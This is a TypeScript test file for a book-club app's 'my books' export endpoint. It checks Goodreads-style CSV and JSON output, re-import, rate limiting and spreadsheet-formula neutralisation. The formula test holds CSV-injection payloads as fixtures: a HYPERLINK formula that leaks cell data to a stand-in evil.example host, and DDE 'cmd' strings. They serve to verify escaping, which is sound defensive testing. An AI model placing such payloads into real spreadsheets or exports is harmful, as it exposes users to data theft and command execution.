import { GOODREADS_HEADER } from "@worker/features/imports/import-csv";
import { parse } from "csv-parse/sync";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { createBook, signedInMember } from "../helpers/fixtures";
import { call, type Envelope, json } from "../helpers/http";
import { startOfRateLimitWindow } from "../helpers/rate-limit";
import { booksOf, captureImportQueue, lookupsFindNothing, runImportBatches, startImport } from "./support";

let sent: ReturnType<typeof captureImportQueue>;
beforeEach(() => {
  sent = captureImportQueue();
  lookupsFindNothing();
});
afterEach(() => vi.restoreAllMocks());

const shelfOf = async (userId: string) =>
  (await booksOf(userId)).map((book) => ({ title: book.title, author: book.author, isbn10: book.isbn10, isbn13: book.isbn13 }));

describe("GET /api/my-books/export", () => {
  it('gives Goodreads\' columns, with its ="..." ISBN quoting, as a download', async () => {
    const member = await signedInMember();
    await createBook(member.user.id, { title: "Emma, Volume 1", author: "Jane Austen", isbn13: "9780141439587", isbn10: "0141439580" });
    const response = await call("/api/my-books/export?format=csv", { cookie: member.cookie });

    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toMatch(/^attachment; filename="bookclub-books-\d{4}-\d{2}-\d{2}\.csv"$/);
    const [header, row] = (await response.text()).split("\r\n");
    expect(header).toBe(GOODREADS_HEADER.join(","));
    expect(row).toContain(',"Emma, Volume 1",Jane Austen,,,"=""0141439580""","=""9780141439587""",0,');
  });

  it("gives JSON too, and refuses an unknown format", async () => {
    const member = await signedInMember();
    const book = await createBook(member.user.id, { title: "Middlemarch", author: "George Eliot" });
    const response = await call("/api/my-books/export?format=json", { cookie: member.cookie });
    expect(response.headers.get("Content-Disposition")).toMatch(/\.json"$/);
    const body = await json<{ books: Record<string, unknown>[] }>(response);
    expect(body.books).toEqual([expect.objectContaining({ bookId: book.id, title: "Middlemarch", author: "George Eliot", coverImage: null })]);

    const bad = await call("/api/my-books/export?format=xml", { cookie: member.cookie, invalid: true });
    expect(bad.status).toBe(400);
    expect(await json<Envelope>(bad)).toMatchObject({ success: false, error: expect.stringMatching(/^format: /) });
  });

  it("imported again by another member, gives the same books", async () => {
    const alice = await signedInMember();
    await createBook(alice.user.id, { title: "Pride and Prejudice", author: "Jane Austen", isbn13: "9780141439518", isbn10: "0141439513" });
    await createBook(alice.user.id, { title: 'A "quoted", title\nover two lines', author: "Anon" });
    await createBook(alice.user.id, { title: "1984", author: "George Orwell", isbn13: "9780451526533", isbn10: "0451526538" });
    const csv = await (await call("/api/my-books/export", { cookie: alice.cookie })).text();

    const bob = await signedInMember();
    const { response } = await startImport(csv, bob.cookie, ["owned"]);
    expect(response.status).toBe(202);
    await runImportBatches(sent);
    const expected = (await shelfOf(alice.user.id)).map((book) => ({ ...book, title: book.title.replace(/\s+/g, " ") }));
    expect(await shelfOf(bob.user.id)).toEqual(expected);

    // And into the same account: every book is already there.
    const again = await startImport(csv, alice.cookie, ["owned"]);
    expect(again.body.data).toMatchObject({ state: "done", addedBooks: 0, duplicateRows: 3 });
  });

  it("neutralises formulas in titles, authors and publishers, in the download and in failed.csv", async () => {
    const member = await signedInMember();
    await createBook(member.user.id, {
      title: '=HYPERLINK("https://evil.example/?leak="&B2,"Open")',
      author: "@SUM(1+1)",
      publisher: "+cmd|' /C calc'!A0",
      isbn13: "9780141439587",
    });
    const download = await call("/api/my-books/export?format=csv", { cookie: member.cookie });
    const [header, ...rows] = parse(await download.text()) as string[][];
    const cell = (name: string) => rows[0]![header!.indexOf(name)];
    expect(cell("Title")).toBe(`'=HYPERLINK("https://evil.example/?leak="&B2,"Open")`);
    expect(cell("Author")).toBe("'@SUM(1+1)");
    expect(cell("Publisher")).toBe("'+cmd|' /C calc'!A0");
    // Goodreads' own ISBN formula stays as it is.
    expect(cell("ISBN13")).toBe('="9780141439587"');

    // A failed row of an imported file echoes its title and author.
    const goodreadsHeader = GOODREADS_HEADER.join(",");
    const file = `${goodreadsHeader}\r\n1,"-2+3+cmd|' /C calc'!A0",Someone\r\n2,,"=1+1",,,,,,,,,,,,,,,,read,,,,,0\r\n3,Fine,Author,,,,,,,,,,,,,,owned,,read,,,,,1\r\n`;
    const { body } = await startImport(file, member.cookie, ["owned"]);
    const failed = await call(`/api/imports/${body.data!.jobId}/failed.csv`, { cookie: member.cookie });
    expect(parse(await failed.text())).toEqual([
      ["Line", "Title", "Author", "ISBN13", "Reason"],
      ["2", "'-2+3+cmd|' /C calc'!A0", "", "", "Expected 24 fields, found 3"],
      ["3", "", "'=1+1", "", "No title"],
    ]);
  });

  it("is rate-limited per member (429 in the envelope)", async () => {
    await startOfRateLimitWindow();
    const member = await signedInMember();
    const statuses: number[] = [];
    for (let i = 0; i < 12; i++) statuses.push((await call("/api/my-books/export", { cookie: member.cookie })).status);
    expect(statuses.slice(0, 10).every((status) => status === 200)).toBe(true);
    const refused = await call("/api/my-books/export", { cookie: member.cookie });
    expect(refused.status).toBe(429);
    expect(await json<Envelope>(refused)).toMatchObject({ success: false, error: expect.stringMatching(/^Too many imports or downloads/) });
    // Another member is not held back.
    const other = await signedInMember();
    expect((await call("/api/my-books/export", { cookie: other.cookie })).status).toBe(200);
  });
});
